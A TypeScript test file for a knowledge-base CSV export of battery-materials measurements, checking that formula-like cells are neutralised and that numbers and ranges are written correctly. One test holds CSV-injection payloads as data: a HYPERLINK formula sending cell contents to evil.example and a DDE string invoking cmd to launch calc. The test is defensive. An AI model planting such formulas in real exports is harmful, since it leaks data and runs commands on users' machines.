/** The knowledge-base CSV export: what a spreadsheet opening it reads. */
import { describe, it, expect } from "vitest";
import { csvCells, validFile } from "../helpers/records";
import { validateRecordFile, recordsCsv } from "../../lib/records";
import { CSV_COLUMNS, SPREADSHEET_SAFE } from "../../lib/records/csv";
import { stringify } from "csv-stringify/sync";

async function exportedCsv(file: ReturnType<typeof validFile>): Promise<Record<string, string>[]> {
  let text = "";
  for await (const chunk of recordsCsv(validateRecordFile(file).papers)) text += chunk;
  const [header, ...rows] = csvCells(text);
  expect(header).toEqual([...CSV_COLUMNS]);
  return rows.map((cells) => Object.fromEntries(header!.map((column, i) => [column, cells[i]!])));
}

describe("the CSV export", () => {
  it("neutralises text a spreadsheet would run as a formula, with a leading single quote", async () => {
    const file = validFile();
    const material = file.papers[0]!.materials![0]!;
    material.name = '=HYPERLINK("https://evil.example/?leak="&A1,"FeS₂")';
    Object.assign(material.measurements![0]!, { quote: "+SUM(1,2)", location: "@Fig. 3", subject: "-2+3+cmd|' /C calc'!A0", note: "\t=1+1" });
    const [row] = await exportedCsv(file);
    expect(row!.material_name).toBe(`'=HYPERLINK("https://evil.example/?leak="&A1,"FeS₂")`);
    expect(row!.quote).toBe("'+SUM(1,2)");
    expect(row!.location).toBe("'@Fig. 3");
    expect(row!.subject).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(row!.note).toBe("'=1+1"); // the record format trims the tab away
    // Text that merely mentions a formula character later is left as written.
    expect(row!.unit).toBe("mAh g^{−1}");
  });

  it("leaves numbers as numbers, negative ones included", async () => {
    const [row] = await exportedCsv(validFile());
    expect(row!.temperature_degC).toBe("-35");
    expect(row!.value).toBe("255.2");
    expect([row!.canonical_min, row!.canonical_max]).toEqual(["255.2", "255.2"]);
    expect(row!.scope).toBe("material");
  });

  it("writes a range as its two ends, with the text the paper printed", async () => {
    const file = validFile();
    Object.assign(file.papers[0]!.materials![0]!.measurements![0]!, { value: undefined, min: 250, max: 300, reported: "250–300 mAh g−1" });
    const [row] = await exportedCsv(file);
    expect([row!.value, row!.min, row!.max, row!.reported]).toEqual(["", "250", "300", "250–300 mAh g−1"]);
    expect([row!.canonical_min, row!.canonical_max]).toEqual(["250", "300"]);
  });

  it("says which conditions the paper bounds rather than states, beside their values", async () => {
    const file = validFile();
    const conditions = file.papers[0]!.materials![0]!.measurements![0]!.conditions!;
    conditions.qualifiers = { cycle: ">" };
    const [bounded, plain] = await exportedCsv(file);
    expect([bounded!.cycle, bounded!.condition_qualifiers]).toEqual(["100", "cycle >"]);
    expect(plain!.condition_qualifiers).toBe("");
  });

  it("quotes a cell that starts with a tab or a carriage return", () => {
    expect(csvCells(stringify([["\t=1+1", "\r=1+1", -1.5, "-"]], SPREADSHEET_SAFE))).toEqual([["'\t=1+1", "'\r=1+1", "-1.5", "'-"]]);
  });
});
